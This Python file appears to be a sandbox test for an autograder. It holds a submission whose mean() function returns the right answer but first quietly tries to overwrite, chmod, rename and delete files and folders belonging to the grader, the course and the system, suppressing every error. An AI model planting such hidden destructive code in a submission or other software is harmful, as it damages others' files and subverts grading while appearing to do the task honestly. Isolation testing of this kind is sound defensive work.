# ends: test_mean passed
# earns: 10
# walls: both
"""What the user who grades owns: content, mode, times, owner, attributes, names, links."""

import contextlib
import os
import shutil

HOST = {}


def mean(x):
    folders = [HOST["mine"], HOST["submitted"], HOST["course"], HOST["out"], "/dev/shm/../..", "/usr/lib"]
    for folder in folders:
        file = folder + "/file"
        ways = [
            lambda: open(file, "w").write("mine now"),
            lambda: os.truncate(file, 0),
            lambda: os.chmod(file, 0o777),
            lambda: os.chmod(folder, 0),
            lambda: os.chown(file, os.getuid(), os.getgid()),
            lambda: os.utime(file, (0, 0)),
            lambda: os.utime(folder, (0, 0)),
            lambda: os.setxattr(file, "user.student", b"x"),
            lambda: os.rename(file, file + ".gone"),
            lambda: os.rename(folder, folder + ".gone"),
            lambda: os.link(file, "link"),
            lambda: os.symlink(file, folder + "/link"),
            lambda: os.mkdir(folder + "/new"),
            lambda: os.mknod(folder + "/fifo", 0o10644),
            lambda: os.unlink(file),
            lambda: shutil.rmtree(folder),
        ]
        for way in ways:
            with contextlib.suppress(OSError):
                way()
    return x.mean().item()
